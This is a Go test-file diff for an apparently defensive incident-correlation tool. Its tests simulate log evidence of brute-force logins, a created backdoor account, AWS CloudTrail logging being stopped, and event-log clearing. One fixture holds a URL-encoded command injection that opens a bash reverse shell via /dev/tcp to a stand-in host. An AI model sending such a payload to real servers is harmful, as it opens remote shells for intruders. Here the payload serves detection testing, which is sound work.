@@ -359,3 +359,99 @@ func TestTheTitleIsOfTheLogOfWhatWasAttacked(t *testing.T) {
 		t.Error(inc.Title)
 	}
 }
+
+func TestGuessesWithoutAnAddressAreOfTheAddressThatAnotherLogHas(t *testing.T) {
+	for _, login := range []string{Succeeded, Failed} {
+		w := &world{}
+		var ids []string
+		var named string
+		for i, u := range []string{"ann", "bob", "dan", "eve"} {
+			ids = append(ids, w.log(100+2*i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4776"}))
+			named = w.log(100+2*i, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: u, code: "4625", source: fmt.Sprint("10.0.9.", 1+i%2)})
+		}
+		w.log(104, record{dataset: "system.security", host: "dc1", category: []string{"authentication"}, outcome: "failure", user: "ann", code: "4625", source: "10.0.0.7"}) // ann, mistyping
+		w.log(150, sshd("dc1", "10.0.0.7", "ann", "success"))
+		got := ""
+		if login == Succeeded {
+			got = w.log(160, sshd("dc1", "10.0.9.2", "zed", "success")) // whom nobody had tried before
+		}
+		w.quiet(9000, "system.security", "dc1", "authentication")
+		w.find("NTLM credentials refused", "high", []string{"T1110.003"}, []string{"credential-access"}, ids...)
+		inc := w.one(t)
+		if inc.Outcome.Result != login || got != "" && !cited(inc.Outcome.Why, got) || !cited(inc.Outcome.Why, named) {
+			t.Errorf("%s: %+v", login, inc.Outcome)
+		}
+		if !slices.Equal(inc.Where.Sources, []string{"10.0.9.1", "10.0.9.2"}) {
+			t.Errorf("sources: %v", inc.Where.Sources)
+		}
+	}
+}
+
+func TestAnAttackThatNamesAnAddressSucceededWhenTheServerCallsIt(t *testing.T) {
+	for to, want := range map[string]string{stranger: Succeeded, "192.0.2.200": Unknown} {
+		w := &world{ips: []hostAddress{{"web1", "10.0.0.5"}}}
+		r := accessed("web1", attacker, "GET", "/export.php", 200, 400)
+		r.url = "/export.php?f=%253Bbash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F" + stranger + "%2F4444"
+		id := w.log(0, r)
+		w.log(3000, record{dataset: "suricata.eve", category: []string{"network"}, types: []string{"connection"}, source: "10.0.0.5", destination: to, port: "4444", start: at(2), sentBytes: 900, receivedBytes: 900})
+		w.find("Shell command in a request", "medium", []string{"T1190"}, []string{"initial-access"}, id)
+		if inc := w.one(t); inc.Outcome.Result != want {
+			t.Errorf("a call to %s: %+v", to, inc.Outcome)
+		}
+	}
+}
+
+func TestTheAccountThatWasCreatedIsFollowed(t *testing.T) {
+	w := &world{}
+	made := w.log(0, record{dataset: "system.auth", host: "app", category: []string{"iam"}, types: []string{"user", "creation"}, user: "monitord", process: "useradd", outcome: "success"})
+	back := w.log(900, sshd("app", attacker, "monitord", "success"))
+	ran := w.log(1000, sudo("app", "monitord", "/bin/bash", "success"))
+	w.find("Account made", "high", []string{"T1136.001"}, []string{"persistence"}, made)
+	inc := w.one(t)
+	if !cited(inc.What, back) || !cited(inc.What, ran) || !slices.Contains(inc.Where.Sources, attacker) {
+		t.Errorf("%+v %+v", inc.What, inc.Where)
+	}
+}
+
+func TestWhatACallerDidInTheCloudIsTold(t *testing.T) {
+	w := &world{}
+	call := func(s int, action, outcome string) string {
+		return w.log(s, record{dataset: "aws.cloudtrail", category: []string{"iam"}, action: action, outcome: outcome, source: attacker, user: "svc", account: "123456789012", region: "eu-west-1"})
+	}
+	call(0, "ListBuckets", "failure")
+	stopped := call(10, "StopLogging", "success")
+	for i := range 20 {
+		call(20+i, "GetObject", "success")
+	}
+	w.log(15, record{dataset: "aws.cloudtrail", category: []string{"iam"}, action: "GetObject", outcome: "success", source: "192.0.2.1", user: "svc"})
+	w.find("Logging stopped", "high", []string{"T1562.008"}, []string{"defense-evasion"}, stopped)
+	inc := w.one(t)
+	if !said(inc.What, "22 calls of account svc from "+attacker) || !said(inc.What, "GetObject 20 times") || !said(inc.What, "ListBuckets, refused") {
+		t.Errorf("what: %+v", inc.What)
+	}
+	if !said(inc.Impact.Facts, "20 objects were read") || !slices.Equal(inc.Where.Logs, []string{"AWS account 123456789012, eu-west-1"}) {
+		t.Errorf("impact: %+v, where: %+v", inc.Impact, inc.Where)
+	}
+}
+
+func TestWhatIsDoneOnAHostInOneMomentIsOneIncident(t *testing.T) {
+	for _, c := range []struct {
+		seconds int
+		second  string
+		want    int
+	}{{1, "ann", 1}, {1, "", 1}, {600, "ann", 2}, {1, "bob", 2}} {
+		w := &world{}
+		a := w.log(0, record{dataset: "windows.security", host: "pc1", category: []string{"configuration"}, outcome: "success", user: "ann"})
+		b := w.log(c.seconds, record{dataset: "windows.system", host: "pc1", category: []string{"configuration"}, outcome: "success", user: c.second})
+		w.find("Security log cleared", "high", []string{"T1070.001"}, []string{"defense-evasion"}, a)
+		w.find("Event log cleared", "high", []string{"T1070.001"}, []string{"defense-evasion"}, b)
+		// Of one rule and day, such are told together: make them of two levels.
+		w.findings[1].Level = "medium"
+		if c.want == 2 && c.second == "ann" {
+			w.findings[1].Entities.Users = nil // else it is ann's doing in both
+		}
+		if got := len(w.build(t)); got != c.want {
+			t.Errorf("%d s apart, by ann and %q: %d incidents, want %d", c.seconds, c.second, got, c.want)
+		}
+	}
+}
